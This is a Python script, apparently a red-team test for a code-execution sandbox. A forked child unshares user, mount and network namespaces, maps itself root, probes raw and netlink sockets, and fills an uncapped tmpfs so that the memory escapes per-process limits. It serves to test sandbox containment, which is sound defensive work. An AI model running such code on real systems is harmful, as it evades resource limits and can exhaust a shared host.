# Red-team hack (nested namespaces): in a forked child (the MBPP runner has threads, and a threaded
# process may not unshare a user namespace), unshare a user + mount namespace, map itself root,
# mount a tmpfs with no size cap and fill it: memory that no per-process limit counts. The child
# also tries the kernel surface that such a namespace opens (raw and netlink sockets, io_uring).
# Files of 15 MiB each stay under the file-size limit. Prints what it got; exits non-zero when the
# namespace was refused.
import ctypes, os, socket, sys

MIB = int(globals().get("ESBENCH_TMPFS_MIB", 1536))
libc = ctypes.CDLL(None, use_errno=True)


def child() -> int:
    uid, gid = os.getuid(), os.getgid()  # before unshare: unmapped, they read as 65534
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: after the uid switch /proc/self is root's
    if libc.unshare(0x10000000 | 0x00020000 | 0x40000000) != 0:  # NEWUSER | NEWNS | NEWNET
        print("unshare refused:", os.strerror(ctypes.get_errno()), flush=True)
        return 3
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
        except OSError as e:
            print(name, e, flush=True)
    for family, kind in ((17, socket.SOCK_RAW), (16, socket.SOCK_RAW)):  # AF_PACKET, AF_NETLINK
        try:
            socket.socket(family, kind, 0).close()
            print("socket", family, "opened", flush=True)
        except OSError as e:
            print("socket", family, e, flush=True)
    target = "/tmp/esbench-hostile-tmpfs"
    os.makedirs(target, exist_ok=True)
    if libc.mount(b"none", target.encode(), b"tmpfs", 0, None) != 0:
        print("mount refused:", os.strerror(ctypes.get_errno()), flush=True)
        return 4
    chunk, wrote = b"x" * (1 << 20), 0
    try:
        while wrote < MIB:
            with open(f"{target}/fill{wrote}", "wb", buffering=0) as f:
                for _ in range(min(15, MIB - wrote)):
                    f.write(chunk)
                    wrote += 1
    except OSError as e:
        print("write stopped:", e, flush=True)
    print(f"tmpfs wrote {wrote} MiB", flush=True)
    return 0 if wrote == MIB else 5


pid = os.fork()
if pid == 0:
    os._exit(child())
status = os.waitpid(pid, 0)[1]
print("child status", status, flush=True)
if status != 0:
    sys.exit(1)
